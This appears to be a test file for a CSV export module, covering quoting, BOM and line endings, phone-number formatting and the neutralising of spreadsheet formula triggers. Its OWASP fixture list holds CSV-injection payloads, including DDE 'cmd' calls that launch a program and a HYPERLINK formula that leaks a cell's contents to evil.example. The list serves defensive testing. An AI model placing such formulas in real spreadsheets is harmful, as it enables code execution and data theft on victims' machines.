import Papa from 'papaparse';
import { exportCellText, phoneColumns, toCsv, withoutExportGuard } from '../../../src/core/csv/export';
import { formatPhone } from '../../../src/core/validation/phone';

describe('toCsv', () => {
  it('starts with a BOM and ends every row with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, 2],
      ]),
    ).toBe('\ufeffa,b\r\n1,2\r\n');
  });

  it('neutralises every formula trigger with a leading apostrophe', () => {
    for (const text of ['=HYPERLINK("http://x","y")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) {
      expect(exportCellText(text)).toBe(`'${text}`);
    }
    expect(exportCellText('a=b')).toBe('a=b');
    expect(exportCellText(-5)).toBe('-5');
  });

  it('quotes commas, quotes, line breaks and edge spaces, and round-trips through papaparse', () => {
    const rows = [['x,y', 'say "hi"', 'two\nlines', ' padded ', '中文', '=1+1']];
    const csv = toCsv(rows);
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(parsed).toEqual([['x,y', 'say "hi"', 'two\nlines', ' padded ', '中文', "'=1+1"]]);
  });

  it('writes dates through the given formatter and booleans as TRUE/FALSE', () => {
    const date = new Date('2026-03-04T00:00:00Z');
    expect(toCsv([[date, true, false, null]], { formatDate: () => '2026-03-04' })).toBe(
      '\ufeff2026-03-04,TRUE,FALSE,\r\n',
    );
  });
});

/** The OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection) and their relatives. */
const OWASP = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '+1',
  '-1',
  '@A1',
];

describe('formula guard only where needed; phones without a stray apostrophe', () => {
  const header = ['Company', 'Phone', 'Notes'];
  const columns = phoneColumns(header);

  it('finds phone columns by header in either language', () => {
    expect([...columns]).toEqual([1]);
    expect([...phoneColumns(['客户名称', '电话', '备注'])]).toEqual([1]);
  });

  it('guards every OWASP payload, in text and in phone columns alike', () => {
    const csv = toCsv([header, ...OWASP.map((payload) => [payload, payload, payload])], {
      phoneColumns: columns,
    });
    const cells = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
    for (const row of cells) for (const text of row) expect(text[0]).toBe("'");
    expect(cells.map((row) => row[0].slice(1))).toEqual(OWASP);
  });

  it('writes valid + phones with 00, and nothing else gets an apostrophe', () => {
    const rows = [
      header,
      ['Acme', '+86 138 0013 8000', 'call after 3'],
      ['Beta', '+44 20 7946 0000', 'a=b'],
      ['Gamma', '+1 (415) 555-0134', ''],
      ['Delta', '138 0013 8000', '中文'],
      ['Eps', '+8613800138000', ''], // no separators: as 00… a spreadsheet would make it a number
      ['Zeta', '+86 12', ''], // not a valid phone
    ];
    const csv = toCsv(rows, { phoneColumns: columns });
    const cells = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(cells.map((row) => row[1])).toEqual([
      'Phone',
      '0086 138 0013 8000',
      '0044 20 7946 0000',
      '001 (415) 555-0134',
      '138 0013 8000',
      "'+8613800138000",
      "'+86 12",
    ]);
    expect(cells.flat().filter((text) => text.startsWith("'"))).toEqual(["'+8613800138000", "'+86 12"]);
    // Without phone columns (another sheet) the same text is guarded as before.
    expect(
      toCsv([['+86 138 0013 8000']])
        .slice(1)
        .trim(),
    ).toBe("'+86 138 0013 8000");
  });

  it('round-trips: the import side (guard off, phone in its stored form) gives back every cell', () => {
    const rows = [
      header,
      ['=1+1', '+86 138 0013 8000', '-2+3'],
      ['@x', '+44 20 7946 0000', '\t=1'],
      ['plain', '+1 (415) 555-0134', '+86 12'],
      ['Eps', '+86 139 1234 5678', ''],
    ];
    const csv = toCsv(rows, { phoneColumns: columns });
    const back = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.map((row, r) =>
      row.map((text, c) => {
        const value = withoutExportGuard(text);
        return r > 0 && c === 1 ? formatPhone(value) : value;
      }),
    );
    expect(back).toEqual(rows);
    // A phone the guard kept (no separators) comes back too, in the one stored form.
    const bare = toCsv([header, ['x', '+8613800138000', '']], { phoneColumns: columns });
    expect(formatPhone(withoutExportGuard(bare.split('\r\n')[1].split(',')[1]))).toBe('+86 138 0013 8000');
  });
});
